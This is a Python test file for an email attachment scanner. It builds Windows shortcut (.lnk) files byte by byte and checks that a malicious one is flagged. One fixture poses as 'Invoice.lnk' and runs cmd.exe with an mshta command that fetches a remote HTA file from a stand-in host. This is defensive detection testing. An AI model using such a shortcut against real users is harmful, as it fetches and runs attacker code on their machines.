"""Windows shortcuts, made here."""

from fixtures.fix_files import examined, names_in
from katharion.content.attachments.shortcut import strings_of


def shortcut(path: str, arguments: str) -> bytes:
    """A shortcut with a relative path and arguments, in UTF-16."""
    header = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F"
    flags = (0x08 | 0x20 | 0x80).to_bytes(4, "little")
    texts = b"".join(
        len(text).to_bytes(2, "little") + text.encode("utf-16-le") for text in (path, arguments)
    )
    return header + flags + bytes(52) + texts


def test_what_it_starts_is_told() -> None:
    content = shortcut(r"..\Windows\System32\cmd.exe", "/c mshta https://x.example/a.hta")
    found = examined(content, "Invoice.lnk")
    assert "FILE_STARTS_PROGRAM" in names_in(found)
    assert "mshta" in found.findings[0].evidence
    assert found.links == ("https://x.example/a.hta",)


def test_a_shortcut_to_a_document_starts_nothing() -> None:
    assert names_in(examined(shortcut("..\\minutes.docx", ""), "m.lnk")) == []


def test_what_is_cut_off_is_missing() -> None:
    content = shortcut("path", "arguments")
    for end in range(len(content)):
        strings_of(content[:end])
    assert strings_of(content) == {"path": "path", "arguments": "arguments"}
